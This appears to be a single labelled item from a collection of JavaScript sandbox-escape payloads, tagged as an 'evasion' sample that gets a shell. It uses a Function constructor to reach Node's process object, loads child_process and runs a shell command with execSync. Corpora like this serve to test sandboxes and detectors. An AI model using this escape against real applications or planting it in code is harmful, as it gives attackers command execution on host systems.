// evasion: Function returns process then mainModule.require
// grade: medium; does: shell
const p = new Function("return process")();
p.mainModule.require("child_process").execSync("id");
